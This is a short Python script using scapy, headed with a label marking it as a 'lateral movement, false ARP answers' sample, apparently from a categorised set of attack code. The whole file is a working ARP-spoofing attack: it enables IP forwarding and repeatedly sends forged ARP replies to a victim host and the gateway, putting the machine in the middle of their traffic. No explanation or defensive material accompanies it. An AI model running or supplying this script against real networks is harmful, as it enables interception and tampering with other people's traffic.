# class: lateral movement, false ARP answers; style: scapy
from scapy.all import ARP, Ether, sendp, getmacbyip
import time
V, G = "192.168.1.20", "192.168.1.1"
open("/proc/sys/net/ipv4/ip_forward", "w").write("1")
while True:
    sendp(Ether(dst=getmacbyip(V)) / ARP(op=2, psrc=G, pdst=V), verbose=0)
    sendp(Ether(dst=getmacbyip(G)) / ARP(op=2, psrc=V, pdst=G), verbose=0)
    time.sleep(2)
